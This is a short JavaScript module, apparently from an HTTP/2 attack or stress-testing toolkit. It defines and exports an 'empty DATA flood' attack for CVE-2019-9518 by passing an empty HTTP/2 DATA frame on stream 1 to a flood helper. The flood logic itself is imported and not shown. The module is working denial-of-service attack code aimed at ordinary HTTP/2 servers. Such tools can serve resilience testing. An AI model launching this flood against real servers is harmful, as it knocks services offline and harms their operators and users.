import * as wire from '../http2/wire.js';
import { flood } from './flood.js';

/** CVE-2019-9518. */
export const attack = flood('empty DATA flood', wire.frame(wire.DATA, 0, 1));
